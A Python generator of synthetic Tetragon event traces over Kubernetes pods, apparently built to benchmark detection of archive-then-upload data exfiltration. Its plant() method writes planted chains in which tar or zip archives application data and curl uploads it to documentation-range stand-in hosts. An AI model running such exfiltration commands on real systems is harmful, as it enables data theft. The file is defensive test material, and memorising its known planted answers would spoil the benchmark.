"""Synthetic Tetragon JSON export for the benchmark: a busy cluster with a few attacks in it.

One compact JSON object a line, in time order, shaped like Tetragon's ``GetEventsResponse``
export (process_exec / process_exit / process_kprobe tcp_connect, tcp_sendmsg, tcp_close), over
Kubernetes pods with full containerd ids. Addresses are private ranges and the documentation /
benchmarking ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 198.18.0.0/15): this is file
content only, nothing is ever sent.

Planted chains, each in its own container, so the expected findings are known exactly:
- attacks: archive (tar or zip) then, minutes later, curl uploads it to a documentation address;
  these containers otherwise talk only to internal addresses, so a tw-archive-exfil finding for
  them can only come from the chain itself.
- backups: archive then rsync/curl to an internal address (expected: tw-archive-internal).
No other command creates an archive (benign tar -x and gzip -d only), so the counts are exact.

Deterministic for a seed: every choice comes from one ``random.Random``. Re-runs reuse the file
when a sidecar ``<out>.params.json`` records the same parameters and the file size still matches.
"""

from __future__ import annotations

import argparse
import base64
import heapq
import json
import random
import sys
import time
from collections import Counter
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

GENERATOR_VERSION = 1  # bump whenever the output for a given seed changes
START = int(datetime(2026, 11, 27, 8, 0, tzinfo=UTC).timestamp())
NS = 1_000_000_000
EVENTS_PER_SECOND = 140  # trace density: 1M events span about two hours
MIN_SPAN_S = 3600  # small runs still span an hour, so the minutes-long chains fit
CHAIN_SPAN_S = 600  # no planted chain lasts longer than this
WRITE_BATCH = 8192

# Background mix (weights). A third of the `sh -c` execs schedule their child's exec as well, so
# process_exec is weighted below its ~35% target.
MIX = (("exec", 29.0), ("exit", 5.0), ("connect", 20.0), ("sendmsg", 35.0), ("close", 5.0))
# Paths inside the synthetic pods' command lines; nothing here ever opens them.
TMP = "/tmp"  # noqa: S108
PUBLIC_SHARE = 0.6  # containers that also talk to public addresses
PUBLIC_CONNECT = 0.3  # of their connections, the share to public addresses


@dataclass(frozen=True)
class Params:
    events: int
    containers: int
    seed: int
    attacks: int = 20
    backups: int = 20
    version: int = GENERATOR_VERSION


# --- what runs in the pods -----------------------------------------------------------------------


@dataclass(frozen=True)
class App:
    binary: str
    arguments: str
    cwd: str
    workloads: tuple[str, ...]
    image: str | None  # public image (repository:tag); None: built in-house per workload
    commands: tuple[tuple[str, str], ...]  # app-specific (binary, arguments)


APPS: dict[str, App] = {
    "nginx": App(
        "/usr/sbin/nginx",
        '-g "daemon off;"',
        "/",
        ("frontend", "web", "edge-proxy", "static", "docs"),
        "docker.io/library/nginx:1.27.2",
        (("/usr/sbin/nginx", "-s reload"), ("/usr/sbin/nginx", "-t")),
    ),
    "python": App(
        "/usr/local/bin/python3",
        "-m gunicorn app.wsgi:application --bind 0.0.0.0:8000 --workers 4",
        "/app",
        ("api", "orders-api", "reports", "worker", "scheduler", "recommender"),
        None,
        (
            ("/usr/local/bin/python3", "manage.py migrate --noinput"),
            ("/usr/local/bin/python3", '-c "import sys; print(sys.version)"'),
            ("/usr/local/bin/pip", "install --no-cache-dir -r requirements.txt"),
            ("/usr/local/bin/celery", "-A app inspect ping"),
        ),
    ),
    "node": App(
        "/usr/local/bin/node",
        "/app/server.js",
        "/app",
        ("bff", "checkout-ui", "notifier", "gateway", "admin-ui"),
        None,
        (
            ("/usr/local/bin/node", "/app/healthcheck.js"),
            ("/usr/local/bin/npm", "run healthcheck --silent"),
        ),
    ),
    "java": App(
        "/opt/java/openjdk/bin/java",
        "-XX:MaxRAMPercentage=75 -jar /app/app.jar",
        "/app",
        ("ledger", "inventory-svc", "search-indexer", "billing-core", "pricing"),
        None,
        (
            ("/opt/java/openjdk/bin/jcmd", "1 GC.heap_info"),
            ("/opt/java/openjdk/bin/java", "-version"),
        ),
    ),
    "go": App(
        "/app/server",
        "--config /etc/app/config.yaml",
        "/",
        ("auth", "session", "rate-limiter", "ingest", "webhooks"),
        None,
        (("/app/server", "--healthcheck"), ("/app/server", "migrate up")),
    ),
    "redis": App(
        "/usr/local/bin/redis-server",
        "*:6379",
        "/data",
        ("cache", "redis", "sessions-cache"),
        "docker.io/library/redis:7.4.1",
        (("/usr/local/bin/redis-cli", "ping"), ("/usr/local/bin/redis-cli", "info memory")),
    ),
    "postgres": App(
        "/usr/lib/postgresql/16/bin/postgres",
        "-D /var/lib/postgresql/data",
        "/var/lib/postgresql",
        ("db", "postgres", "analytics-db"),
        "docker.io/library/postgres:16.4",
        (
            ("/usr/lib/postgresql/16/bin/pg_isready", "-h 127.0.0.1 -p 5432"),
            ("/usr/lib/postgresql/16/bin/psql", '-U app -c "select 1"'),
        ),
    ),
}
APP_WEIGHTS = {
    "nginx": 3,
    "python": 5,
    "node": 4,
    "java": 3,
    "go": 4,
    "redis": 1,
    "postgres": 1,
}

# Benign commands any container runs, with a shell wrapper's child where there is one.
# (binary, arguments, child binary or "", child arguments)
COMMON: tuple[tuple[str, str, str, str], ...] = (
    (
        "/bin/sh",
        '-c "curl -fsS http://127.0.0.1:8080/healthz"',
        "/usr/bin/curl",
        "-fsS http://127.0.0.1:8080/healthz",
    ),
    ("/bin/sh", '-c "cat /proc/loadavg"', "/bin/cat", "/proc/loadavg"),
    (
        "/bin/sh",
        '-c "wget -q -O /dev/null http://localhost:8080/ready"',
        "/usr/bin/wget",
        "-q -O /dev/null http://localhost:8080/ready",
    ),
    ("/bin/sh", '-c "ls /tmp | grep -v lock | head -n 20"', "", ""),
    ("/bin/sh", '-c "test -f /tmp/ready && echo ok"', "/usr/bin/test", "-f /tmp/ready"),
    ("/bin/ls", "-la /app", "", ""),
    ("/bin/ls", "/var/log/app", "", ""),
    ("/bin/cat", "/etc/resolv.conf", "", ""),
    ("/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/namespace", "", ""),
    ("/bin/grep", "-c ERROR /var/log/app/app.log", "", ""),
    ("/bin/ps", "aux", "", ""),
    ("/usr/bin/env", "", "", ""),
    ("/bin/date", "+%s", "", ""),
    ("/usr/bin/id", "-u", "", ""),
    ("/bin/sleep", "5", "", ""),
    ("/usr/bin/find", f"{TMP} -mtime +1 -name *.tmp -delete", "", ""),
    ("/bin/tar", "-xzf /tmp/assets-1.4.2.tgz -C /srv/static", "", ""),
    ("/bin/tar", "xf /opt/plugins/bundle.tar -C /opt/plugins", "", ""),
    ("/bin/gzip", "-d /var/cache/app/feed.json.gz", "", ""),
    ("/bin/gzip", "-dc /var/log/app/app.log.2.gz", "", ""),
    ("/usr/bin/apt-get", "update -qq", "", ""),
    ("/usr/bin/apt-get", "install -y --no-install-recommends ca-certificates", "", ""),
    ("/usr/bin/curl", "-fsS -o /dev/null http://config-server.platform.svc:8888/app/prod", "", ""),
    ("/usr/bin/awk", "'{print $1}' /proc/meminfo", "", ""),
)

NAMESPACES = (
    "payments", "checkout", "catalog", "search", "identity", "billing", "orders", "inventory",
    "notifications", "analytics", "reporting", "platform", "ingest", "media", "support",
)  # fmt: skip
INTERNAL_SERVICES = (
    ("10.96.0.10", 53), ("10.96.12.40", 5432), ("10.96.33.7", 6379), ("10.96.48.2", 9092),
    ("10.96.71.9", 9200), ("10.96.80.1", 443), ("10.96.101.5", 8080), ("10.96.140.3", 80),
    ("172.16.4.10", 443), ("172.16.9.21", 5432), ("172.16.20.5", 8443), ("10.20.0.5", 22),
)  # fmt: skip
PUBLIC_NETS = ("198.51.100.", "203.0.113.", "192.0.2.", "198.18.", "198.19.")
PUBLIC_PORTS = (443, 443, 443, 443, 80, 8443)


# --- state ---------------------------------------------------------------------------------------


@dataclass
class Proc:
    json: str  # the Tetragon process object, compact
    exec_id: str
    node: str


@dataclass
class Pod:
    index: int
    app: str
    node: str
    ip: str
    uid: int
    pod_json: str
    docker: str
    public: bool
    main: Proc
    shim: Proc
    next_pid: int
    commands: list[tuple[str, str, str, str]]
    sockets: list[tuple[str, str]] = field(default_factory=list)  # (head, sock) per open socket
    running: list[tuple[Proc, Proc]] = field(default_factory=list)  # (process, parent) to exit


class Trace:
    """Writes the trace; everything random comes from ``self.rng``."""

    def __init__(self, params: Params) -> None:
        self.params = params
        self.rng = random.Random(params.seed)
        self.span_ns = max(MIN_SPAN_S, params.events // EVENTS_PER_SECOND) * NS
        self.counts: Counter[str] = Counter()
        self._seconds: dict[int, str] = {}
        self._scheduled: list[tuple[int, int, str, str]] = []  # (time, seq, kind, line)
        self._seq = 0
        hosts = self.rng.sample(range(16 * 253), min(16 * 253, max(4, params.containers // 25)))
        self.nodes = [f"ip-10-0-{h // 253}-{h % 253 + 2}.ec2.internal" for h in hosts]
        self.boot = {node: self.rng.randint(10**14, 10**15) for node in self.nodes}
        self.pods = self._pods()
        # Busy pods produce more events: a weighted pick table, sampled with one random() call.
        self.pick = [p for p in self.pods for _ in range(self.rng.choice((1, 1, 1, 2, 3, 5)))]

    # --- helpers -------------------------------------------------------------------------------

    def ts(self, ns: int) -> str:
        sec, frac = divmod(ns, NS)
        prefix = self._seconds.get(sec)
        if prefix is None:
            moment = datetime.fromtimestamp(START + sec, UTC)
            prefix = self._seconds[sec] = moment.strftime("%Y-%m-%dT%H:%M:%S")
        return f"{prefix}.{frac:09d}Z"

    def hex(self, bits: int) -> str:
        return f"{self.rng.getrandbits(bits):0{bits // 4}x}"

    def exec_id(self, node: str, ns: int, pid: int) -> str:
        # Tetragon's exec_id: base64 of node:ktime:pid.
        return base64.b64encode(f"{node}:{self.boot[node] + ns}:{pid}".encode()).decode()

    def proc(
        self,
        pod: Pod,
        ns: int,
        binary: str,
        arguments: str,
        parent: Proc,
    ) -> Proc:
        pid = pod.next_pid
        pod.next_pid += self.rng.randint(1, 7)
        exec_id = self.exec_id(pod.node, ns, pid)
        text = (
            f'{{"exec_id":"{exec_id}","pid":{pid},"uid":{pod.uid},'
            f'"cwd":"{APPS[pod.app].cwd}","binary":"{binary}",'
            f'"arguments":{json.dumps(arguments)},"flags":"execve clone",'
            f'"start_time":"{self.ts(ns)}","auid":4294967295,"pod":{pod.pod_json},'
            f'"docker":"{pod.docker}","parent_exec_id":"{parent.exec_id}","refcnt":1}}'
        )
        return Proc(text, exec_id, pod.node)

    def schedule(self, ns: int, kind: str, line: str) -> None:
        self._seq += 1
        heapq.heappush(self._scheduled, (ns, self._seq, kind, line))

    # --- the pods ------------------------------------------------------------------------------

    def _pods(self) -> list[Pod]:
        rng = self.rng
        apps = list(APP_WEIGHTS)
        weights = list(APP_WEIGHTS.values())
        workloads: dict[tuple[str, str], tuple[str, str, str, str]] = {}
        per_node: Counter[str] = Counter()
        replicas: Counter[tuple[str, str]] = Counter()
        pods: list[Pod] = []
        for index in range(self.params.containers):
            app_name = rng.choices(apps, weights)[0]
            app = APPS[app_name]
            namespace = rng.choice(NAMESPACES)
            workload = rng.choice(app.workloads)
            key = (namespace, workload)
            if key not in workloads:  # replicas of a workload share image and pod template hash
                digest = self.hex(256)
                if app.image:
                    repo, _, tag = app.image.rpartition(":")
                else:
                    repo = f"registry.example.com/{namespace}/{workload}"
                    tag = f"{rng.randint(1, 3)}.{rng.randint(0, 40)}.{rng.randint(0, 9)}"
                kind = "StatefulSet" if app_name in ("redis", "postgres") else "Deployment"
                workloads[key] = (
                    f"{repo}:{tag}",
                    f"{repo}@sha256:{digest}",
                    self.hex(40)[:10],
                    kind,
                )
            image_name, image_id, template, kind = workloads[key]
            replicas[key] += 1
            if kind == "StatefulSet":
                pod_name = f"{workload}-{replicas[key] - 1}"
            else:
                suffix = "".join(rng.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(5))
                pod_name = f"{workload}-{template}-{suffix}"
            node = rng.choice(self.nodes)
            per_node[node] += 1
            node_index = self.nodes.index(node)
            ip = f"10.244.{node_index}.{per_node[node] + 1}"
            container_id = self.hex(256)
            started = self.ts(-rng.randint(3600, 40 * 86400) * NS)
            pod_json = json.dumps(
                {
                    "namespace": namespace,
                    "name": pod_name,
                    "container": {
                        "id": f"containerd://{container_id}",
                        "name": workload if app.image is None else app_name,
                        "image": {"id": image_id, "name": image_name},
                        "start_time": started[:19] + "Z",
                        "pid": 1,
                    },
                    "pod_labels": {"app": workload, "team": namespace},
                    "workload": workload,
                    "workload_kind": kind,
                },
                separators=(",", ":"),
            )
            shim_pid = rng.randint(1000, 900_000)
            shim_id = self.exec_id(node, -86400 * NS, shim_pid)
            shim = Proc(
                f'{{"exec_id":"{shim_id}","pid":{shim_pid},"uid":0,'
                f'"cwd":"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{container_id}",'
                f'"binary":"/usr/bin/containerd-shim-runc-v2",'
                f'"arguments":"-namespace k8s.io -id {container_id} -address '
                f'/run/containerd/containerd.sock","flags":"execve clone",'
                f'"start_time":"{started}","auid":4294967295,'
                f'"parent_exec_id":"{self.exec_id(node, -90000 * NS, 1)}","refcnt":3}}',
                shim_id,
                node,
            )
            pod = Pod(
                index=index,
                app=app_name,
                node=node,
                ip=ip,
                uid=rng.choice((0, 0, 1000, 101, 999)),
                pod_json=pod_json,
                docker=container_id[:31],  # Tetragon's docker field: a prefix of the id
                public=rng.random() < PUBLIC_SHARE,
                main=shim,  # replaced just below; the main process's parent is the shim
                shim=shim,
                next_pid=shim_pid + rng.randint(2, 40),
                commands=[*COMMON, *((b, a, "", "") for b, a in app.commands)],
            )
            pod.main = self.proc(
                pod, -rng.randint(600, 86400) * NS, app.binary, app.arguments, shim
            )
            pods.append(pod)
        return pods

    # --- background ------------------------------------------------------------------------------

    def exec_line(self, proc: Proc, parent: Proc, ns: int) -> str:
        return (
            f'{{"process_exec":{{"process":{proc.json},"parent":{parent.json}}},'
            f'"node_name":"{proc.node}","time":"{self.ts(ns)}"}}'
        )

    def exit_line(self, proc: Proc, parent: Proc, ns: int) -> str:
        when = self.ts(ns)
        return (
            f'{{"process_exit":{{"process":{proc.json},"parent":{parent.json},'
            f'"signal":"","status":0,"time":"{when}"}},"node_name":"{proc.node}","time":"{when}"}}'
        )

    def open_socket(
        self, proc: Proc, parent: Proc, saddr: str, daddr: str, dport: int
    ) -> tuple[str, str]:
        head = (
            f'{{"process_kprobe":{{"process":{proc.json},"parent":{parent.json},"function_name":"'
        )
        sock = (
            f'","args":[{{"sock_arg":{{"family":"AF_INET","type":"SOCK_STREAM",'
            f'"protocol":"IPPROTO_TCP","saddr":"{saddr}","daddr":"{daddr}",'
            f'"sport":{self.rng.randint(32768, 60999)},"dport":{dport}}}}}'
        )
        return head, sock

    def kprobe_line(
        self, sock: tuple[str, str], call: str, node: str, ns: int, size: int = -1
    ) -> str:
        size_arg = f',{{"int_arg":{size}}}' if size >= 0 else ""
        return (
            f'{sock[0]}{call}{sock[1]}{size_arg}],"action":"KPROBE_ACTION_POST",'
            f'"policy_name":"monitor-tcp"}},"node_name":"{node}","time":"{self.ts(ns)}"}}'
        )

    def destination(self, pod: Pod) -> tuple[str, int]:
        rng = self.rng
        if pod.public and rng.random() < PUBLIC_CONNECT:
            net = rng.choice(PUBLIC_NETS)
            if net.count(".") == 2:  # a /15: two octets to fill
                net += f"{rng.randint(0, 255)}."
            return f"{net}{rng.randint(1, 254)}", rng.choice(PUBLIC_PORTS)
        if rng.random() < 0.25:  # another pod
            return f"10.244.{rng.randrange(len(self.nodes))}.{rng.randint(2, 40)}", 8080
        return rng.choice(INTERNAL_SERVICES)

    def size(self) -> int:
        r = self.rng.random()
        if r < 0.6:
            return self.rng.randint(60, 1500)
        if r < 0.92:
            return self.rng.randint(1500, 65536)
        return self.rng.randint(65536, 1 << 20)

    def background(self, kind: str, ns: int) -> tuple[str, str]:
        rng = self.rng
        pod = self.pick[int(rng.random() * len(self.pick))]
        if kind == "sendmsg" and pod.sockets:
            sock = pod.sockets[int(rng.random() * len(pod.sockets))]
            return "tcp_sendmsg", self.kprobe_line(sock, "tcp_sendmsg", pod.node, ns, self.size())
        if kind == "close" and pod.sockets:
            sock = pod.sockets.pop(0)
            return "tcp_close", self.kprobe_line(sock, "tcp_close", pod.node, ns)
        if kind == "exit" and pod.running:
            proc, parent = pod.running.pop(0)
            return "process_exit", self.exit_line(proc, parent, ns)
        if kind in ("connect", "sendmsg", "close"):
            address, port = self.destination(pod)
            sock = self.open_socket(pod.main, pod.shim, pod.ip, address, port)
            pod.sockets.append(sock)
            if len(pod.sockets) > 8:  # long-lived connections are never closed in the trace
                pod.sockets.pop(0)
            return "tcp_connect", self.kprobe_line(sock, "tcp_connect", pod.node, ns)
        binary, arguments, child, child_args = pod.commands[int(rng.random() * len(pod.commands))]
        # Shell wrappers come from kubelet exec probes (parent: the runtime); the rest from the app.
        parent = pod.shim if binary == "/bin/sh" else pod.main
        proc = self.proc(pod, ns, binary, arguments, parent)
        if child:
            later = ns + rng.randint(400_000, 3_000_000)
            self.schedule(
                later,
                "process_exec",
                self.exec_line(self.proc(pod, later, child, child_args, proc), proc, later),
            )
        pod.running.append((proc, parent))
        if len(pod.running) > 16:
            pod.running.pop(0)
        return "process_exec", self.exec_line(proc, parent, ns)

    # --- planted chains --------------------------------------------------------------------------

    def chain_start(self) -> int:
        # Early enough that the whole chain is written before the last event.
        earliest = int(self.span_ns * 0.05)
        latest = int(self.span_ns * 0.6) - CHAIN_SPAN_S * NS
        return self.rng.randint(earliest, max(latest, earliest))

    def archive(self, pod: Pod, ns: int, shell: Proc, command: str, via_shell: bool) -> int:
        """The archiver run (optionally wrapped in sh -c); returns when it finished."""
        rng = self.rng
        binary, _, arguments = command.partition(" ")
        binary = {"tar": "/bin/tar", "zip": "/usr/bin/zip"}[binary]
        parent = shell
        if via_shell:
            wrapper = self.proc(pod, ns, "/bin/sh", f'-c "{command}"', shell)
            self.schedule(ns, "process_exec", self.exec_line(wrapper, shell, ns))
            parent, ns = wrapper, ns + rng.randint(1_000_000, 4_000_000)
        archiver = self.proc(pod, ns, binary, arguments, parent)
        self.schedule(ns, "process_exec", self.exec_line(archiver, parent, ns))
        done = ns + rng.randint(3, 40) * NS
        self.schedule(done, "process_exit", self.exit_line(archiver, parent, done))
        if via_shell:
            self.schedule(
                done + 2_000_000, "process_exit", self.exit_line(parent, shell, done + 2_000_000)
            )
        return done + 2_000_000

    def upload(
        self,
        pod: Pod,
        ns: int,
        shell: Proc,
        binary: str,
        arguments: str,
        daddr: str,
        dport: int,
        chunk: int,
    ) -> None:
        rng = self.rng
        tool = self.proc(pod, ns, binary, arguments, shell)
        self.schedule(ns, "process_exec", self.exec_line(tool, shell, ns))
        sock = self.open_socket(tool, shell, pod.ip, daddr, dport)
        ns += rng.randint(20_000_000, 150_000_000)
        self.schedule(ns, "tcp_connect", self.kprobe_line(sock, "tcp_connect", pod.node, ns))
        for _ in range(rng.randint(3, 8)):
            ns += rng.randint(50_000_000, 600_000_000)
            size = rng.randint(chunk // 2, chunk)
            self.schedule(
                ns, "tcp_sendmsg", self.kprobe_line(sock, "tcp_sendmsg", pod.node, ns, size)
            )
        ns += rng.randint(10_000_000, 300_000_000)
        self.schedule(ns, "tcp_close", self.kprobe_line(sock, "tcp_close", pod.node, ns))
        ns += rng.randint(1_000_000, 40_000_000)
        self.schedule(ns, "process_exit", self.exit_line(tool, shell, ns))

    def plant(self) -> tuple[list[int], list[int]]:
        """Attack and backup chains, each in its own internal-only container."""
        rng = self.rng
        quiet = [p for p in self.pods if not p.public]
        wanted = self.params.attacks + self.params.backups
        if len(quiet) < wanted:
            raise SystemExit(
                f"need {wanted} internal-only containers for the chains, have {len(quiet)}"
            )
        chosen = rng.sample(quiet, wanted)
        attacked, backed = chosen[: self.params.attacks], chosen[self.params.attacks :]
        for number, pod in enumerate(attacked):
            start = self.chain_start()
            opened = start - rng.randint(20, 90) * NS  # an interactive shell in the pod
            bash = self.proc(pod, opened, "/bin/bash", "", pod.shim)
            self.schedule(opened, "process_exec", self.exec_line(bash, pod.shim, opened))
            name = rng.choice(("x", "data", "dump", ".cache", "q3", "backup-old")) + str(number)
            source = rng.choice(("/data", "/app/uploads", "/var/lib/app", "/srv/data /etc/app"))
            host = f"203.0.113.{rng.randint(2, 254)}"
            variant = number % 3
            if variant == 0:
                path = f"{TMP}/{name}.tgz"
                done = self.archive(pod, start, bash, f"tar -czf {path} {source}", True)
                curl, port = f"-s -T {path} https://{host}/upload/{name}.tgz", 443
            elif variant == 1:
                path = f"/var{TMP}/{name}.tar.gz"
                done = self.archive(pod, start, bash, f"tar czf {path} {source}", True)
                host = f"198.51.100.{rng.randint(2, 254)}"
                curl, port = f'-sk -F "file=@{path}" https://{host}/u', 443
            else:
                path = f"{TMP}/{name}.zip"
                done = self.archive(pod, start, bash, f"zip -qr {path} {source}", False)
                curl, port = f"--upload-file {path} https://{host}:8443/", 8443
            later = done + rng.randint(60, 300) * NS  # "a few minutes later"
            self.upload(pod, later, bash, "/usr/bin/curl", curl, host, port, 4 << 20)
        for number, pod in enumerate(backed):
            start = self.chain_start()
            day = self.ts(start)[:10]
            path = f"/backup/{pod.app}-{day}-{number}.tgz"
            done = self.archive(pod, start, pod.main, f"tar -czf {path} /var/lib/app/data", True)
            later = done + rng.randint(10, 120) * NS
            if number % 2:
                arguments, host, port = f"-a {path} backup@10.20.0.5:/srv/backups/", "10.20.0.5", 22
                self.upload(pod, later, pod.main, "/usr/bin/rsync", arguments, host, port, 1 << 20)
            else:
                host = "172.16.20.5"
                arguments = f"-fsS -T {path} http://{host}:8443/backups/"
                self.upload(pod, later, pod.main, "/usr/bin/curl", arguments, host, 8443, 1 << 20)
        return [p.index for p in attacked], [p.index for p in backed]

    # --- the file ------------------------------------------------------------------------------

    def write(self, path: Path) -> tuple[list[int], list[int]]:
        attacked, backed = self.plant()
        rng = self.rng
        total = self.params.events
        kinds = [k for k, _ in MIX]
        cumulative: list[float] = []
        running = 0.0
        for _, weight in MIX:
            running += weight
            cumulative.append(running / sum(w for _, w in MIX))
        gap = self.span_ns / total
        scheduled = self._scheduled
        counts = self.counts
        written = 0
        now = 0
        batch: list[str] = []
        with path.open("w", encoding="utf-8", newline="\n") as out:
            while written < total:
                now += int(rng.random() * 2 * gap) + 1
                while scheduled and scheduled[0][0] <= now and written < total:
                    _, _, kind, line = heapq.heappop(scheduled)
                    batch.append(line)
                    counts[kind] += 1
                    written += 1
                if written >= total:
                    break
                r = rng.random()
                choice = next(k for k, c in zip(kinds, cumulative, strict=True) if r <= c)
                kind, line = self.background(choice, now)
                batch.append(line)
                counts[kind] += 1
                written += 1
                if len(batch) >= WRITE_BATCH:
                    out.write("\n".join(batch))
                    out.write("\n")
                    batch.clear()
            if batch:
                out.write("\n".join(batch))
                out.write("\n")
        if scheduled:
            raise RuntimeError(f"{len(scheduled)} planted events did not fit; raise --events")
        return attacked, backed


def _sidecar(path: Path) -> Path:
    return path.with_name(path.name + ".params.json")


def generate(
    path: Path,
    events: int,
    containers: int,
    seed: int,
    attacks: int = 20,
    backups: int = 20,
    force: bool = False,
) -> dict[str, Any]:
    """Write the trace (or reuse an identical one) and describe it: parameters, counts, chains."""
    params = Params(events, containers, seed, attacks, backups)
    sidecar = _sidecar(path)
    if not force and path.exists() and sidecar.exists():
        try:
            summary: dict[str, Any] = json.loads(sidecar.read_text())
        except ValueError:
            summary = {}
        if summary.get("params") == asdict(params) and summary.get("bytes") == path.stat().st_size:
            summary["reused"] = True
            return summary
    path.parent.mkdir(parents=True, exist_ok=True)
    started = time.perf_counter()
    trace = Trace(params)
    partial = path.with_name(path.name + ".partial")
    attacked, backed = trace.write(partial)
    partial.replace(path)  # an interrupted run never leaves a file that looks complete
    summary = {
        "params": asdict(params),
        "path": str(path),
        "bytes": path.stat().st_size,
        "counts": dict(sorted(trace.counts.items())),
        "attack_chains": len(attacked),
        "backup_chains": len(backed),
        "attack_containers": attacked,
        "backup_containers": backed,
        "seconds": round(time.perf_counter() - started, 2),
    }
    sidecar.write_text(json.dumps(summary, indent=2) + "\n")
    summary["reused"] = False
    return summary


def describe(summary: dict[str, Any]) -> str:
    counts: dict[str, int] = summary["counts"]
    total = sum(counts.values())
    mix = ", ".join(f"{k} {v} ({100 * v / total:.1f}%)" for k, v in counts.items())
    how = "reused" if summary.get("reused") else f"written in {summary['seconds']:.1f} s"
    return (
        f"{summary['path']}: {total} events, {summary['bytes'] / 2**20:.0f} MiB ({how})\n"
        f"  {mix}\n"
        f"  planted: {summary['attack_chains']} attack chains, "
        f"{summary['backup_chains']} backup chains"
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--containers", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--attacks", type=int, default=20)
    parser.add_argument("--backups", type=int, default=20)
    default = Path(__file__).resolve().parent / "out" / "tetragon-1m.jsonl"  # what run.py uses
    parser.add_argument("--out", type=Path, default=default)
    parser.add_argument("--force", action="store_true", help="regenerate even if up to date")
    args = parser.parse_args(argv)
    summary = generate(
        args.out, args.events, args.containers, args.seed, args.attacks, args.backups, args.force
    )
    print(describe(summary))
    return 0


if __name__ == "__main__":
    sys.exit(main())
